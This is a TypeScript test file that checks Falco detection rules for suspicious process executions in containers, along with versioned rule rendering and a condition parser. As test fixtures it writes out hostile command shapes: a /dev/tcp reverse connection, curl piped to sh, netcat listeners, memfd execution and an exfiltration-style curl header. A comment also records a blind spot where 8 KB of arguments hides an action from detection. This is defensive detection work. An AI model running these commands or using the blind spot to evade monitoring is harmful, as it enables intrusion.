import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { olderRules, rulesFile } from '../../.ci/falco-rules.mjs';
import { canaryArguments, canarySign } from '../../src/canary/program.ts';
import { decodeAlert } from '../../src/sources/falco/message.ts';
import { ancestorFields, earlyFields, otherFields } from '../../src/sources/falco/output-fields.ts';
import { readCondition, readRules } from '../support/falco-condition.ts';
import { recordedActions, recordedMessages } from '../support/recordings.ts';

const text = readFileSync(join(import.meta.dirname, '../../deploy/falco/lanner_rules.yaml'), 'utf8');
const { rules } = readRules(text);
const focused = rules.find((one) => one.rule === 'Lanner Suspicious Exec In Container')!;
const every = rules.find((one) => one.rule === 'Lanner Every Exec In Container')!;
const canary = rules.find((one) => one.rule === 'Lanner Canary')!;
const fieldsOf = (fields: Record<string, string>) => new Map(Object.entries(fields));
const execOf = (path: string, args: string) => ({
  'evt.type': 'execve',
  'evt.res': 'SUCCESS',
  'proc.name': 'node',
  'proc.exepath': path,
  'proc.args': args,
});
const alerts = recordedMessages('falco/scenario').map(decodeAlert);
const successful = alerts.filter((one) => one.fields.get('evt.res') === 'SUCCESS');
const lineOf = (fields: ReadonlyMap<string, string>) => fields.get('proc.exeline') ?? '';

describe('the shipped Falco rules', () => {
  it('are three, of which one for the operator to choose is on', () => {
    expect(rules.map((one) => [one.rule, one.enabled])).toEqual([
      ['Lanner Suspicious Exec In Container', true],
      ['Lanner Every Exec In Container', false],
      ['Lanner Canary', true],
    ]);
  });

  it('print exactly the fields that are read', () => {
    // Not printed by ours: what other printed fields tell as well, and what only Falco's stock rules print.
    const spare = new Set([
      'evt.dir',
      'evt.arg.flags',
      'evt.hostname',
      'proc.cmdline',
      'proc.args',
      'container.image',
    ]);
    const read = [...earlyFields, ...otherFields].filter((field) => !spare.has(field));
    const wanted = [...read, ...[2, 3, 4].flatMap(ancestorFields)].sort();
    for (const { output } of rules) {
      const printed = [...output.matchAll(/%([a-z0-9_.]+(?:\[\d\])?)/g)].map((match) => match[1]);
      expect(printed.sort()).toEqual(wanted);
    }
  });

  it('report the canary wherever it runs, last and as nothing else', () => {
    const text = canaryArguments().join(' ');
    const own = { ...execOf('/usr/bin/node', text), 'container.id': 'host' };
    expect(canary.matches(fieldsOf(own))).toBe(true);
    expect(canary.matches(fieldsOf({ ...own, 'container.id': 'abc' }))).toBe(true);
    expect(focused.matches(fieldsOf({ ...own, 'container.id': 'abc' }))).toBe(false);
    expect(new RegExp(canarySign().pattern).test(text)).toBe(true);
    const behind = { ...own, 'proc.args': `-c evil ${text}` };
    expect(canary.matches(fieldsOf(behind))).toBe(false);
    expect(alerts.filter(({ fields }) => canary.matches(fields))).toEqual([]);
    expect(rules.at(-1)).toBe(canary);
  });

  it('name no program longer than the 15 bytes that the kernel keeps', () => {
    const names = [...text.matchAll(/items: \[([^\]]*)\]/g)].flatMap((match) => match[1]!.split(','));
    const long = names.map((name) => name.trim().replaceAll('"', '')).filter((name) => name.length > 15);
    expect(long.filter((name) => !name.startsWith('lanner_'))).toEqual([]);
  });

  it('let no failed exec and no process of the host through', () => {
    const failed = alerts.filter((one) => one.fields.get('evt.res') !== 'SUCCESS');
    expect(failed.length).toBeGreaterThan(0);
    for (const { fields } of failed) expect(every.matches(fields)).toBe(false);
    for (const { fields } of successful)
      expect(every.matches(new Map(fields).set('container.id', 'host'))).toBe(false);
  });

  it('every exec: lets every successful exec in a container through', () => {
    expect(successful.filter(({ fields }) => every.matches(fields))).toHaveLength(105);
  });

  it('focused: lets every suspicious action of the recorded scenario through', () => {
    const actions = recordedActions().filter((one) => one.verdict === 'suspicious');
    const sent = successful
      .filter(({ fields }) => focused.matches(fields))
      .map(({ fields }) => lineOf(fields));
    const missed = actions.filter((one) => !sent.some((line) => line.includes(one.marker)));
    // s142's marker stands behind 8 KB of arguments and is in no message of Falco.
    expect(missed.map((one) => one.id)).toEqual(['s142']);
    expect(sent.some((line) => line.startsWith('curl -sS -m 1 -H X-Data: QUJD'))).toBe(true);
  });

  it('focused: leaves these benign actions out, and this share of all execs', () => {
    const actions = recordedActions().filter(
      (one) => one.verdict === 'benign' && !one.image.startsWith('HOST'),
    );
    const sent = successful
      .filter(({ fields }) => focused.matches(fields))
      .map(({ fields }) => lineOf(fields));
    const quiet = actions.filter((one) => !sent.some((line) => line.includes(one.marker)));
    expect(quiet.map((one) => one.id)).toEqual([
      's002',
      's010',
      's012',
      's018',
      's022',
      's026',
      's028',
      's030',
      's032',
    ]);
    expect([sent.length, successful.length]).toEqual([68, 105]);
  });

  it('focused: lets nothing of a benign storm through', () => {
    const storm = recordedMessages('falco/storm-lean').map(decodeAlert);
    expect(storm.filter(({ fields }) => focused.matches(fields))).toHaveLength(0);
  });

  const container = { 'evt.type': 'execve', 'evt.res': 'SUCCESS', 'container.id': 'abc' };
  const sends = (fields: Record<string, string>) =>
    focused.matches(new Map(Object.entries({ ...container, ...fields })));

  it.each([
    ['a tool by its name', { 'proc.name': 'nc' }],
    ['a tool by argv[0] only', { 'proc.name': 'exe', 'proc.exe': 'wget' }],
    ['a name that the kernel cut', { 'proc.name': 'netcat.traditio' }],
    ['an applet', { 'proc.name': 'busybox', 'proc.args': 'nc -l -p 44' }],
    [
      'an applet of a renamed copy',
      { 'proc.name': 'helper', 'proc.exe': '/opt/busybox', 'proc.args': 'wget x' },
    ],
    ['a copy in /tmp', { 'proc.name': 'a', 'proc.exepath': '/tmp/a' }],
    ['a file of the upper layer', { 'proc.name': 'a', 'proc.is_exe_upper_layer': 'true' }],
    ['a memfd', { 'proc.name': '3', 'proc.exepath': 'memfd:x' }],
    ['a deleted file', { 'proc.name': 'a', 'proc.exepath': '/opt/a (deleted)' }],
    ['the loader', { 'proc.name': 'ld-linux-x86-64', 'proc.args': '/opt/a' }],
    ['a shell that opens a connection', { 'proc.name': 'bash', 'proc.args': '-c exec 3<>/dev/tcp/h/1' }],
    ['a shell that pipes a download', { 'proc.name': 'sh', 'proc.args': '-c curl http://h | sh' }],
    ['a script in /tmp', { 'proc.name': 'sh', 'proc.args': '/tmp/x.sh' }],
    ['inline code', { 'proc.name': 'python3.11', 'proc.args': '-c import socket' }],
    ['a server of an interpreter', { 'proc.name': 'python3', 'proc.args': '-m http.server 80' }],
    [
      'openssl as a client',
      { 'proc.name': 'openssl', 'proc.exe': 'openssl', 'proc.args': 's_client -connect h:1' },
    ],
    ['what a dropped program starts', { 'proc.name': 'id', 'proc.pexepath': '/dev/shm/a' }],
  ])('focused: sends %s', (_name, fields) => {
    expect(sends(fields)).toBe(true);
  });

  it.each([
    ['ls', { 'proc.name': 'ls', 'proc.exepath': '/usr/bin/ls', 'proc.args': '-la /tmp' }],
    ['a harmless applet', { 'proc.name': 'busybox', 'proc.args': 'ls -la' }],
    ['hostname', { 'proc.name': 'hostname' }],
    ['a plain shell', { 'proc.name': 'sh', 'proc.args': '-c cat /etc/hostname' }],
    ['a script of the image', { 'proc.name': 'python3', 'proc.args': '/app/main.py' }],
    [
      'openssl without connection',
      { 'proc.name': 'openssl', 'proc.exe': 'openssl', 'proc.args': 'x509 -in a' },
    ],
    ['a tool that failed to start', { 'proc.name': 'nc', 'evt.res': 'ENOENT' }],
    ['a tool of the host', { 'proc.name': 'nc', 'container.id': 'host' }],
    ['a tool without a container', { 'proc.name': 'nc', 'container.id': '' }],
  ])('focused: does not send %s', (_name, fields) => {
    const known = Object.fromEntries(Object.entries(fields).filter(([, value]) => value !== ''));
    const { 'container.id': id, ...rest } = container;
    const all = 'container.id' in fields ? { ...rest, ...known } : { ...rest, 'container.id': id, ...known };
    expect(focused.matches(new Map(Object.entries(all)))).toBe(false);
  });
});

describe('the rules by version of Falco', () => {
  const files = [undefined, ...Object.keys(olderRules)];
  const read = (version: string | undefined) => readFileSync(rulesFile(version), 'utf8');

  it.each(Object.keys(olderRules))('of %s are made from the newest', (version) => {
    expect(read(version) === olderRules[version]!(text), 'stale: npm run deploy:render').toBe(true);
    expect(read(version)).toContain(`NOT SEEN: no Falco ${version} was at hand.`);
  });

  it('demand what there is', () => {
    const demands = files.map((version) => {
      const { engine, plugins } = readRules(read(version));
      return [version, engine, ...plugins.map((one) => `${one.name} ${one.version}`)];
    });
    expect(demands).toEqual([
      [undefined, '0.57.0', 'container 0.4.0'],
      ['0.41', '0.50.0', 'container 0.2.0'],
      ['0.40', undefined],
    ]);
  });

  it.each(Object.keys(olderRules))('of %s say the same about the recorded scenario', (version) => {
    const older = readRules(read(version)).rules;
    for (const [index, rule] of rules.entries()) {
      const [before, after] = [rule, older[index]!];
      expect(after.output).toBe(before.output);
      for (const { fields } of alerts) {
        expect(after.matches(new Map(fields).set('evt.dir', '<'))).toBe(before.matches(fields));
        // The first half of an execve, which there was until 0.41, knows nothing.
        expect(after.matches(new Map(fields).set('evt.dir', '>'))).toBe(false);
      }
    }
  });
});

describe("the evaluator of Falco's conditions", () => {
  const holds = (condition: string, fields: Record<string, string>) =>
    readCondition(condition)(new Map(Object.entries(fields)));

  it.each([
    ['a.b = x and not a.c = y', { 'a.b': 'x' }, true],
    ['a.b = x or a.c = y and a.d = z', { 'a.b': 'x' }, true],
    ['(a.b = x or a.c = y) and a.d = z', { 'a.b': 'x' }, false],
    ['a.b != x', {}, false],
    ['a.b in (x, "y z")', { 'a.b': 'y z' }, true],
    ['a.b pmatch (/tmp, /run)', { 'a.b': '/tmp/x' }, true],
    ['a.b pmatch (/tmp)', { 'a.b': '/tmpx' }, false],
    ['a.b startswith "x "', { 'a.b': 'x y' }, true],
    ['a.b icontains X', { 'a.b': 'axb' }, true],
    ['a.b exists', { 'a.b': 'x' }, true],
    ['a.b >= 3', { 'a.b': '12' }, true],
  ])('%s', (condition, fields, expected) => {
    expect(holds(condition, fields as Record<string, string>)).toBe(expected);
  });

  it.each(['a.b ~ x', 'unknown_macro', 'a.b = x and', '(a.b = x', 'a.b = x y'])('refuses %s', (condition) => {
    expect(() => readCondition(condition)).toThrow();
  });
});
